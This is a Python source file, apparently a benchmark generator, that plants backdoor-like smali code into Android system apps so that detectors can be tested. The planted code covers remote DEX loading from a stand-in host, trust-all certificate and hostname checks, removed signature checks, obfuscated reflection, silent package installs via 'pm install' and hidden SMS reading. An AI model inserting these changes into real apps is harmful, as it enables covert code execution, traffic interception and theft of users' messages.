"""What the code of apps does: loads, sends, checks, installs."""
import re

import tree
from plants import Sees, plant, word
from plants import smali

LOADS = "code_loading|power_gained|door_opened|power_reached"


def helper(app, rng, *methods, parent="java.lang.Object", interfaces=()):
    """A class with a name as an optimiser gives; its descriptor."""
    name, known = "", "\n".join(text.split("\n", 1)[0] for part in app.texts for text in part.values())
    while not name or f"L{name.replace('.', '/')};" in known:
        name = f"{app.package}.{rng.choice('abcdef')}{rng.choice('mnop')}.{rng.choice('uvwx')}"
    app.add_class(smali.a_class(name, parent, *methods, interfaces=interfaces))
    return f"L{name.replace('.', '/')};"


def a_door(app, tags=("receiver", "service", "provider")):
    """(class name, method that Android calls, register that is a context) of a component whose code is in the app."""
    wanted = {"receiver": ("onReceive(", "p1"), "service": ("onCreate(", "p0"), "provider": ("onCreate(", "p0"), "activity": ("onCreate(", "p0")}
    for tag in tags:
        for element in app.application.find(tag):
            name = app.full(element.get("name"))
            try:
                text = app.class_text(name)[2]
            except KeyError:
                continue
            method, register = wanted[tag]
            if re.search(rf"^\.method [^\n]* {re.escape(method)}", text, re.MULTILINE):
                return name, method, register
    raise KeyError(f"{app.package} has no door with code")


def from_door(app, method, tags=("receiver", "service", "provider")):
    """Puts a call of a static method, which takes a context or nothing, at the start of the method that Android calls."""
    name, entry, register = a_door(app, tags)
    registers = f"/range {{{register} .. {register}}}" if "Context;" in method else " {}"
    app.edit(name, lambda text: smali.called_first(text, entry, f"    invoke-static{registers}, {method}\n"))


@plant("dynamic loading", "blu", "oneplus")
def dex_from_address(site):
    """A system app fetches a DEX from an address and loads it."""
    app = site.app({"blu": "BatteryWarning", "oneplus": "OPBugReportLite"}[site.host])
    host = site.one_of("cdn", "dl", "res") + ".plantedbench.net"
    address = f"http://{host}/p/m.dat"
    other = helper(app, site.rng, smali.static_method("a", "(Landroid/content/Context;Ljava/lang/String;)V", smali.LOAD_DEX),
                   smali.static_method("b", "(Landroid/content/Context;)V", f"""
    :start
    const-string v0, "{address}"
    invoke-static {{p0, v0}}, @;->a(Landroid/content/Context;Ljava/lang/String;)V
    :end
    .catch Ljava/lang/Throwable; {{:start .. :end}} :failed
    :failed
    return-void""", 3))
    fix_own_name(app, other)
    from_door(app, f"{other}->b(Landroid/content/Context;)V", ("service", "receiver", "activity"))
    return Sees(LOADS, word(app.package), "DexClassLoader|load_code")


def fix_own_name(app, descriptor):
    """In texts of plants `@;` is the class itself."""
    for part in app.texts:
        for name, text in part.items():
            if f" {descriptor}\n" in text and "@;" in text:
                part[name] = text.replace("@;", descriptor)


@plant("dynamic loading", "xiaomi", quiet=True)
def dex_from_file(site):
    """A system app loads a DEX from the memory card; no host, no new right."""
    app = site.app("WfdService")
    other = helper(app, site.rng, smali.static_method("a", "(Landroid/content/Context;)V", """
    const-string v0, "/sdcard/.thumb/idx.db"
    invoke-virtual {p0}, Landroid/content/Context;->getCacheDir()Ljava/io/File;
    move-result-object v1
    invoke-virtual {v1}, Ljava/io/File;->getPath()Ljava/lang/String;
    move-result-object v1
    const/4 v2, 0x0
    invoke-virtual {p0}, Landroid/content/Context;->getClassLoader()Ljava/lang/ClassLoader;
    move-result-object v3
    new-instance v4, Ldalvik/system/DexClassLoader;
    invoke-direct {v4, v0, v1, v2, v3}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    return-void"""))
    from_door(app, f"{other}->a(Landroid/content/Context;)V")
    return Sees(LOADS, word(app.package), "DexClassLoader|load_code")


@plant("native library", "blu")
def native_library_loaded(site):
    """A system app loads a native library that comes with the update."""
    import native
    app = site.app("KeyChain")
    stem = site.one_of("ttsx", "kmgr", "ims_ext")
    other = helper(app, site.rng, f"""
.method static constructor <clinit>()V
    .registers 1
    const-string v0, "{stem}"
    invoke-static {{v0}}, Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V
    return-void
.end method

.method public static native a(Landroid/content/Context;)I
.end method
""")
    from_door(app, f"{other}->a(Landroid/content/Context;)I", ("service", "receiver", "activity"))
    folder = "system/lib64"
    donor = next(p for p in sorted(site.files) if p.startswith(folder + "/") and p.endswith(".so") and p.count("/") == folder.count("/") + 1 and len(site.files[p].data) < 20_000)
    site.files[f"{folder}/lib{stem}.so"] = tree.Entry(native.with_build_id(site.files[donor].data, site.rng))
    return Sees("code_loading|file_added|library_added|native_library_added", word(app.package) + "|" + word(stem), word(stem))


@plant("new host", "sample", "blu", "xiaomi")
def plain_new_host(site):
    """An app asks a host that it did not name before."""
    app = site.app({"sample": "SampleBeacon", "blu": "CaptivePortalLogin", "xiaomi": "WeatherProvider"}[site.host])
    host = site.one_of("stat", "api", "log") + ".plantedbench.net"
    other = helper(app, site.rng, smali.static_method("a", "(Ljava/lang/String;)V", smali.ASK, 2), smali.static_method("b", "()V", f"""
    :start
    const-string v0, "https://{host}/v1/u"
    invoke-static {{v0}}, @;->a(Ljava/lang/String;)V
    :end
    .catch Ljava/lang/Throwable; {{:start .. :end}} :failed
    :failed
    return-void""", 2))
    fix_own_name(app, other)
    from_door(app, f"{other}->b()V", ("service", "receiver", "provider", "activity"))
    return Sees("host_added", word(app.package), word(host))


@plant("built host", "blu", "sample", scored=False)
def host_from_characters(site):
    """The host stands in no text: it is built from single characters."""
    app = site.app({"blu": "ProxyHandler", "sample": "SampleCodes"}[site.host])
    host = "c.plantedbench.net"
    values = "\n".join(f"        0x{ord(letter):x}s" for letter in host)
    other = helper(app, site.rng, smali.static_method("a", "(Ljava/lang/String;)V", smali.ASK, 2), smali.static_method("b", "()V", f"""
    :start
    const/16 v0, {len(host):#x}
    new-array v0, v0, [C
    fill-array-data v0, :letters
    new-instance v1, Ljava/lang/String;
    invoke-direct {{v1, v0}}, Ljava/lang/String;-><init>([C)V
    const-string v0, "https://"
    invoke-virtual {{v0, v1}}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {{v0}}, @;->a(Ljava/lang/String;)V
    :end
    .catch Ljava/lang/Throwable; {{:start .. :end}} :failed
    :failed
    return-void
    :letters
    .array-data 2
{values}
    .end array-data""", 3))
    fix_own_name(app, other)
    from_door(app, f"{other}->b()V", ("service", "receiver", "provider", "activity"))
    return Sees("host_added", word(app.package), word(host))


@plant("cleartext", "xiaomi", quiet=True)
def https_becomes_http(site):
    """One address of an app goes from https to http; one letter of one text."""
    app = site.app("AnalyticsCore")
    changed = 0
    for part in app.texts:
        for name, text in part.items():
            part[name], count = re.subn(r'"https://(miuiboot\.tracking\.miui\.com)', r'"http://\1', text)
            changed += count
    if not changed:
        raise KeyError("no such address")
    app.code_changed = True
    return Sees("host_in_clear", r"com\.miui\.analytics miuiboot\.tracking", "http://")


@plant("certificate check", "xiaomi", "blu", quiet=True)
def trust_manager_accepts_all(site):
    """A class that accepts every server's certificate, given to all HTTPS of the app."""
    app = site.app({"xiaomi": "AnalyticsCore", "blu": "SchedulePowerOnOff"}[site.host])
    manager = helper(app, site.rng, smali.TRUST_ALL, interfaces=("javax.net.ssl.X509TrustManager",))
    other = helper(app, site.rng, smali.static_method("w", "()V", f"""
    :start
    const-string v0, "TLS"
    invoke-static {{v0}}, Ljavax/net/ssl/SSLContext;->getInstance(Ljava/lang/String;)Ljavax/net/ssl/SSLContext;
    move-result-object v0
    const/4 v1, 0x1
    new-array v1, v1, [Ljavax/net/ssl/TrustManager;
    new-instance v2, {manager}
    invoke-direct {{v2}}, {manager}-><init>()V
    const/4 v3, 0x0
    aput-object v2, v1, v3
    const/4 v2, 0x0
    invoke-virtual {{v0, v2, v1, v2}}, Ljavax/net/ssl/SSLContext;->init([Ljavax/net/ssl/KeyManager;[Ljavax/net/ssl/TrustManager;Ljava/security/SecureRandom;)V
    invoke-virtual {{v0}}, Ljavax/net/ssl/SSLContext;->getSocketFactory()Ljavax/net/ssl/SSLSocketFactory;
    move-result-object v0
    invoke-static {{v0}}, Ljavax/net/ssl/HttpsURLConnection;->setDefaultSSLSocketFactory(Ljavax/net/ssl/SSLSocketFactory;)V
    :end
    .catch Ljava/lang/Throwable; {{:start .. :end}} :failed
    :failed
    return-void"""))
    from_door(app, f"{other}->w()V", ("service", "receiver"))
    return Sees("power_gained|finding_gained", word(app.package), "checkServerTrusted|accept_any_certificate")


@plant("certificate check", "oneplus", quiet=True)
def host_name_verifier_says_yes(site):
    """All HTTPS of an app accepts a certificate for any name."""
    app = site.app("OPInstantLocalService")
    verifier = helper(app, site.rng, """
.method public verify(Ljava/lang/String;Ljavax/net/ssl/SSLSession;)Z
    .registers 4
    const/4 v0, 0x1
    return v0
.end method
""", interfaces=("javax.net.ssl.HostnameVerifier",))
    other = helper(app, site.rng, smali.static_method("v", "()V", f"""
    new-instance v0, {verifier}
    invoke-direct {{v0}}, {verifier}-><init>()V
    invoke-static {{v0}}, Ljavax/net/ssl/HttpsURLConnection;->setDefaultHostnameVerifier(Ljavax/net/ssl/HostnameVerifier;)V
    return-void""", 1))
    from_door(app, f"{other}->v()V", ("service", "receiver"))
    return Sees("power_gained|finding_gained", word(app.package), r"HostnameVerifier\.verify")


@plant("certificate check", "oneplus")
def user_certificates_trusted(site):
    """An app's network settings allow clear text and certificates that anybody installed."""
    import axml
    app = site.app("OPBugReportLite")
    app.application.put("usesCleartextTraffic", True)
    root = axml.Element("network-security-config")
    base = root.add("base-config")
    base.attributes.append(axml.Attribute("cleartextTrafficPermitted", "true", space=None, raw="true"))
    for source in ("system", "user"):
        base_anchor = axml.Element("certificates")
        base_anchor.attributes.append(axml.Attribute("src", source, space=None, raw=source))
        if not base.find("trust-anchors"):
            base.add("trust-anchors")
        base.first("trust-anchors").children.append(base_anchor)
    # Without a resource table of its own to grow, the setting in the manifest is what counts here.
    app.entries["res/xml/net.xml"] = axml.encode(axml.Document(root, [], {}))
    return Sees("package_switch|power_gained", word(app.package), "(?i)clear|encrypt")


@plant("reflection", "blu", "oneplus", quiet=True)
def reflection_by_decoded_name(site):
    """A method is looked up under a name that is Base64 in the code, and called."""
    app = site.app({"blu": "MmsService", "oneplus": "DynamicSystemInstallationService"}[site.host])
    other = helper(app, site.rng, smali.static_method("d", "(Ljava/lang/String;)Ljava/lang/String;", """
    const/4 v0, 0x0
    invoke-static {p0, v0}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v0
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    return-object v1""", 3), smali.static_method("e", "()V", """
    :start
    const-string v0, "amF2YS5sYW5nLlJ1bnRpbWU="
    invoke-static {v0}, @;->d(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v1
    const-string v0, "Z2V0UnVudGltZQ=="
    invoke-static {v0}, @;->d(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    const/4 v2, 0x0
    invoke-virtual {v1, v0, v2}, Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v0
    invoke-virtual {v0, v2, v2}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    :end
    .catch Ljava/lang/Throwable; {:start .. :end} :failed
    :failed
    return-void""", 4))
    fix_own_name(app, other)
    from_door(app, f"{other}->e()V", ("service", "receiver", "provider"))
    return Sees("code_loading|call_added", word(app.package), r"Class\.forName|Class\.getMethod|Method\.invoke")


@plant("update check", "xiaomi", "oneplus", quiet=True)
def signature_check_dropped(site):
    """An app that checked who signed what it got does not check any more. Xiaomi's is the published case of an app that updates itself."""
    app = site.app({"xiaomi": "AnalyticsCore", "oneplus": "WAPPushManager"}[site.host])
    call = {"xiaomi": r"    invoke-virtual [^\n]*PackageManager;->getPackageArchiveInfo\([^\n]*\n\s*move-result-object (\w+)\n",
            "oneplus": r"    invoke-virtual [^\n]*PackageManager;->checkSignatures\([^\n]*\n\s*move-result (\w+)\n"}[site.host]
    instead = {"xiaomi": r"    const/16 \1, 0x0\n", "oneplus": r"    const/16 \1, 0x0\n"}[site.host]
    changed = 0
    for part in app.texts:
        for name, text in part.items():
            part[name], count = re.subn(call, instead, text)
            changed += count
    if not changed:
        raise KeyError("no check")
    app.code_changed = True
    return Sees("check_dropped|call_removed|update_agent", word(app.package), "getPackageArchiveInfo|checkSignatures")


@plant("update check", "sample")
def update_host_changed(site):
    """The update agent fetches from another host."""
    app = site.app("SampleUpdater")
    app.edit("nl.klikspaan.sample.updater.UpdateService", lambda text: text.replace("updates.sample-telltale.example", "updates.plantedbench.net"))
    return Sees("host_added|update_agent", word(app.package), word("plantedbench.net"))


@plant("silent installer", "oneplus", "blu")
def installer_newly_reachable(site):
    """A door of a system app leads to code that installs packages without asking; the right comes with it."""
    app = site.app({"oneplus": "BackupRestoreRemoteService", "blu": "Amigo_SystemService"}[site.host])
    app.manifest.root.add("uses-permission", name="android.permission.INSTALL_PACKAGES")
    name = f"{app.package}.Sync"
    other = helper(app, site.rng, smali.static_method("i", "(Landroid/content/Context;Ljava/lang/String;)V", smali.INSTALL))
    app.add_class(smali.receiver(name, f"""
    const-string v0, "p"
    invoke-virtual {{p2, v0}}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {{p1, v0}}, {other}->i(Landroid/content/Context;Ljava/lang/String;)V
"""))
    app.application.add("receiver", name=name, exported=True).add("intent-filter").add("action", name=f"{app.package}.SYNC")
    return Sees("door_opened|power_gained", word(app.package), "install apps without asking|install_silently")


@plant("silent installer", "xiaomi", quiet=True)
def installer_by_shell(site):
    """An app of the system installs with the shell's `pm install -r`; no new right, no new door."""
    app = site.app("TimeService")
    other = helper(app, site.rng, smali.static_method("p", "()V", """
    :start
    const-string v0, "pm install -r /data/local/tmp/.u.apk"
    invoke-static {}, Ljava/lang/Runtime;->getRuntime()Ljava/lang/Runtime;
    move-result-object v1
    invoke-virtual {v1, v0}, Ljava/lang/Runtime;->exec(Ljava/lang/String;)Ljava/lang/Process;
    :end
    .catch Ljava/lang/Throwable; {:start .. :end} :failed
    :failed
    return-void""", 2))
    from_door(app, f"{other}->p()V", ("receiver", "service"))
    return Sees("power_gained|power_reached", word(app.package), "pm install")


@plant("data collection", "xiaomi", quiet=True)
def messages_are_read(site):
    """An app that runs as the system reads all messages; nothing in the manifest shows it."""
    app = site.app("KeyChain")
    other = helper(app, site.rng, smali.static_method("s", "(Landroid/content/Context;)V", """
    const-string v0, "content://sms/inbox"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    invoke-virtual/range {p0 .. p0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const/4 v2, 0x0
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    return-void"""))
    from_door(app, f"{other}->s(Landroid/content/Context;)V", ("receiver", "service", "activity"))
    return Sees("power_gained|power_reached", word(app.package), "content://sms")
